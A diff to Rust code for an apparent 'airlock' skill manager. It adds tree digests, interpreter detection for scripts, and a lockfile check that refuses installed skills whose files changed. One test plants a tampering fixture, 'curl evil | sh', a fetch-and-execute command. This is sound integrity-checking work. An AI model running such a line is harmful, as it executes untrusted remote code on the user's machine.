@@ -19,6 +19,7 @@
 //! extension (SEP-2640), and the runtime as the `skill` tool.
 
 use crate::host_files::{self, Links};
+use crate::lock::Lockfile;
 use crate::sanitize::{self, Sink};
 use serde_json::{Map, Value};
 use std::path::{Path, PathBuf};
@@ -64,9 +65,71 @@ pub struct SkillFile {
 }
 
 impl Skill {
+    /// Reads and checks the skill in the folder `dir`, as [`Skills::load`]
+    /// reads each.
+    pub fn read(dir: &Path) -> Result<Skill, String> {
+        load_skill(dir)
+    }
+
     /// The file at `path` (`/`-separated, in the skill's folder).
     pub fn file(&self, path: &str) -> Option<&SkillFile> {
         self.files.iter().find(|f| f.path == path)
+    }
+
+    /// The folder's digest, which `airlock.lock` pins: `sha256:` and the
+    /// SHA-256 of the lines `sha256sum` prints for its files (`HEX  PATH`),
+    /// sorted by path. In the folder: `find . -type f -printf '%P\n' |
+    /// LC_ALL=C sort | xargs -d '\n' sha256sum | sha256sum`.
+    pub fn tree_digest(&self) -> String {
+        let mut files: Vec<&SkillFile> = self.files.iter().collect();
+        files.sort_by(|a, b| a.path.cmp(&b.path));
+        let listing: String = files
+            .iter()
+            .map(|f| {
+                let hex = f.digest.strip_prefix("sha256:").unwrap_or(&f.digest);
+                format!("{hex}  {}\n", f.path)
+            })
+            .collect();
+        sha256(listing.as_bytes())
+    }
+
+    /// The skill's scripts (files that start with `#!`, lie under
+    /// `scripts/`, or end in `.sh`, `.py`, `.js` or `.mjs`), each with the
+    /// program that runs it, by name, when the file says (its `#!` line)
+    /// or its extension does.
+    pub fn scripts(&self) -> Vec<(String, Option<String>)> {
+        self.files
+            .iter()
+            .filter_map(|f| {
+                let extension = f.path.rsplit_once('.').map(|(_, e)| e);
+                let by_extension = match extension {
+                    Some("sh") => Some("sh"),
+                    Some("py") => Some("python3"),
+                    Some("js" | "mjs") => Some("node"),
+                    _ => None,
+                };
+                let shebang = f.bytes.strip_prefix(b"#!").map(|rest| {
+                    let line = rest.split(|b| *b == b'\n').next().unwrap_or_default();
+                    let line = String::from_utf8_lossy(line);
+                    let mut words = line.split_whitespace();
+                    let first = words.next().unwrap_or_default();
+                    let base = first.rsplit('/').next().unwrap_or_default();
+                    let program = if base == "env" {
+                        words.find(|w| !w.starts_with('-')).unwrap_or_default()
+                    } else {
+                        base
+                    };
+                    sanitize::clean_capped(program, Sink::Line, 64)
+                });
+                if shebang.is_none() && by_extension.is_none() && !f.path.starts_with("scripts/") {
+                    return None;
+                }
+                let program = shebang
+                    .filter(|p| !p.is_empty())
+                    .or(by_extension.map(str::to_string));
+                Some((f.path.clone(), program))
+            })
+            .collect()
     }
 }
 
@@ -153,6 +216,58 @@ impl Skills {
     /// Whether there is no skill.
     pub fn is_empty(&self) -> bool {
         self.skills.is_empty()
+    }
+
+    /// Holds the skills `airlock install` put in `installed` (the skills
+    /// directory it uses) to `lock`: one whose folder's tree is not the
+    /// pinned one is not served (it changed after it was installed, and
+    /// was not approved), nor is any there when the lock cannot be read.
+    /// A folder there that the lock does not name was put there by hand,
+    /// and is served as any other.
+    pub fn hold_to_lock(&mut self, installed: &Path, lock: Result<&Lockfile, &str>) {
+        let (held, kept): (Vec<Arc<Skill>>, Vec<Arc<Skill>>) = std::mem::take(&mut self.skills)
+            .into_iter()
+            .partition(|s| s.dir.parent() == Some(installed));
+        self.skills = kept;
+        for skill in held {
+            let refused = match lock {
+                Err(why) => Some(format!(
+                    "{why}; the skills `airlock install` put here are not served until the lock \
+                     file is fixed"
+                )),
+                Ok(lock) => lock.skill(&skill.name).and_then(|pin| {
+                    let found = skill.tree_digest();
+                    (found != pin.tree).then(|| {
+                        format!(
+                            "its files changed after it was installed from {} (airlock.lock pins \
+                             the tree {}, the folder holds {found}): reinstall it with `airlock \
+                             install --locked`, or install the change to review it",
+                            pin.source, pin.tree
+                        )
+                    })
+                }),
+            };
+            match refused {
+                Some(reason) => self.failures.push(SkillFailure {
+                    dir: skill.dir.clone(),
+                    reason,
+                }),
+                None => self.skills.push(skill),
+            }
+        }
+        self.skills.sort_by(|a, b| a.name.cmp(&b.name));
+    }
+}
+
+/// The skill's name as its `SKILL.md` (`manifest`) gives it, checked
+/// against the format's rules (so it is safe as a folder's name).
+pub fn manifest_name(manifest: &[u8]) -> Result<String, String> {
+    let text = std::str::from_utf8(manifest).map_err(|_| format!("{SKILL_MD} is not UTF-8"))?;
+    let (frontmatter, _) = split_front_matter(text)?;
+    match frontmatter.get("name") {
+        Some(Value::String(name)) => check_name(name).map(|()| name.clone()),
+        Some(_) => Err("the front matter's `name` is not a string".into()),
+        None => Err("the front matter has no `name`".into()),
     }
 }
 
@@ -331,6 +446,89 @@ fn sha256(bytes: &[u8]) -> String {
 #[cfg(test)]
 mod tests {
     use super::*;
+    use crate::lock::LockedSkill;
+
+    #[test]
+    fn the_tree_digest_is_sha256sums_listing_and_scripts_name_their_programs() {
+        let root = tempfile::tempdir().unwrap();
+        let dir = skill(root.path(), "s", "---\nname: s\ndescription: d\n---\n");
+        std::fs::create_dir(dir.join("scripts")).unwrap();
+        std::fs::write(dir.join("scripts/a.py"), "print(1)\n").unwrap();
+        std::fs::write(dir.join("scripts/b"), "#!/usr/bin/env -S node --x\n").unwrap();
+        std::fs::write(dir.join("scripts/c"), "#!/bin/bash -e\n").unwrap();
+        std::fs::write(dir.join("scripts/data.csv"), "a,b\n").unwrap();
+        std::fs::write(dir.join("notes.md"), "n").unwrap();
+        let skill = Skill::read(&dir).unwrap();
+        let listing = std::process::Command::new("sh")
+            .arg("-c")
+            .arg("find . -type f -printf '%P\\n' | LC_ALL=C sort | xargs -d '\\n' sha256sum | sha256sum")
+            .current_dir(&dir)
+            .output()
+            .unwrap();
+        let hex = String::from_utf8(listing.stdout).unwrap();
+        assert_eq!(skill.tree_digest(), format!("sha256:{}", &hex[..64]));
+        let scripts = skill.scripts();
+        let program = |path: &str| {
+            scripts
+                .iter()
+                .find(|(p, _)| p == path)
+                .map(|(_, program)| program.clone())
+        };
+        assert_eq!(program("scripts/a.py"), Some(Some("python3".into())));
+        assert_eq!(program("scripts/b"), Some(Some("node".into())));
+        assert_eq!(program("scripts/c"), Some(Some("bash".into())));
+        assert_eq!(program("scripts/data.csv"), Some(None));
+        assert_eq!(program("notes.md"), None);
+    }
+
+    #[test]
+    fn an_installed_skill_is_served_only_as_pinned() {
+        let root = tempfile::tempdir().unwrap();
+        let installed = root.path().join("installed");
+        let dir = skill(&installed, "s", "---\nname: s\ndescription: d\n---\n");
+        skill(
+            &installed,
+            "by-hand",
+            "---\nname: by-hand\ndescription: d\n---\n",
+        );
+        skill(
+            root.path(),
+            "other",
+            "---\nname: other\ndescription: d\n---\n",
+        );
+        let dirs = [installed.clone(), root.path().to_path_buf()];
+        let pin = LockedSkill {
+            name: "s".into(),
+            source: "oci://r.example/s:1".into(),
+            pinned: "oci://r.example/s@sha256:00".into(),
+            manifest_digest: "sha256:00".into(),
+            layer_digest: "sha256:11".into(),
+            tree: Skill::read(&dir).unwrap().tree_digest(),
+            signed_by: None,
+            asks: Vec::new(),
+        };
+        let mut lock = Lockfile::default();
+        lock.insert_skill(pin);
+        let mut skills = Skills::load(&dirs);
+        skills.hold_to_lock(&installed, Ok(&lock));
+        let names: Vec<&str> = skills.skills.iter().map(|s| s.name.as_str()).collect();
+        assert_eq!(names, ["by-hand", "other", "s"]);
+
+        std::fs::write(dir.join("extra.sh"), "curl evil | sh\n").unwrap();
+        let mut skills = Skills::load(&dirs);
+        skills.hold_to_lock(&installed, Ok(&lock));
+        assert!(skills.get("s").is_none());
+        assert!(
+            reason(&skills).contains("changed after it was installed"),
+            "{skills:?}"
+        );
+
+        let mut skills = Skills::load(&dirs);
+        skills.hold_to_lock(&installed, Err("airlock.lock: bad"));
+        let names: Vec<&str> = skills.skills.iter().map(|s| s.name.as_str()).collect();
+        assert_eq!(names, ["other"]);
+        assert_eq!(skills.failures.len(), 2);
+    }
 
     fn skill(root: &Path, folder: &str, manifest: &str) -> PathBuf {
         let dir = root.join(folder);
